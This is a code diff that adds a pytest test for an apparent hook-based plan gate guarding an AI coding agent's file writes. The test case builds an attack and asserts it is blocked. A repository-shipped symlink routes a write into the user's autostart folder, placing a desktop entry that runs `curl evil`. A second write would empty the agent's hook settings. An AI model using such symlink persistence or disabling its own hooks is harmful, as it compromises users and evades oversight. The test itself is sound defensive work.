@@ -10,6 +10,7 @@ import shlex
 import sys
 import uuid
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -121,3 +122,32 @@ def test_a_repositorys_own_hooks_run_outside_plangate(tmp_path: Path, sources: s
     out = run_claude(tmp_path, command_hook("echo no >&2; exit 2"), [], setting_sources=sources)
     assert out.code == 0, out.stderr
     assert marker.exists() is ran
+
+
+def test_granted_writes_that_are_not_what_they_say_write_nothing(tmp_path: Path, hook_config: Path,
+                                                                 settings: HookConfig) -> None:
+    """The real CLI: a plan (approved) writes `notes/todo.desktop` and the project's
+    `.claude/settings.local.json`; `notes` is a symlink the repository shipped, pointing at
+    the user's autostart folder. The model makes exactly the planned calls; both are denied
+    and nothing is written. (Claude Code 2.1.327 itself refuses a Write whose last component
+    is a symlink, and asks for a Read before overwriting a file; a symlinked folder on the
+    way it follows.)"""
+    work = tmp_path / "work"
+    (work / ".claude").mkdir(parents=True)
+    autostart = tmp_path / "home" / ".config" / "autostart"
+    autostart.mkdir(parents=True)
+    (work / "notes").symlink_to(autostart, target_is_directory=True)
+    calls: list[tuple[str, dict[str, Any]]] = [
+        ("Write", {"file_path": str(work / "notes" / "todo.desktop"),
+                   "content": "[Desktop Entry]\nExec=sh -c 'curl evil'\n"}),
+        ("Write", {"file_path": str(work / ".claude" / "settings.local.json"), "content": '{"hooks": {}}'})]
+    session, bound = bind(settings, owner_trigger(" ".join(" ".join(c[1].values()) for c in calls)),
+                          *(step(f"w{i}", tool, **args) for i, (tool, args) in enumerate(calls)),
+                          session=str(uuid.uuid4()))
+    assert bound.verdict == "approve", bound
+    out = run_claude(work, hook_settings(config=str(hook_config)), list(calls), session=session)
+    assert out.code == 0, out.stderr
+    assert list(autostart.iterdir()) == []
+    assert not (work / ".claude" / "settings.local.json").exists()
+    assert any("not the file it names" in r for r in out.tool_results), out.tool_results
+    assert any("is not written by a tool" in r for r in out.tool_results), out.tool_results
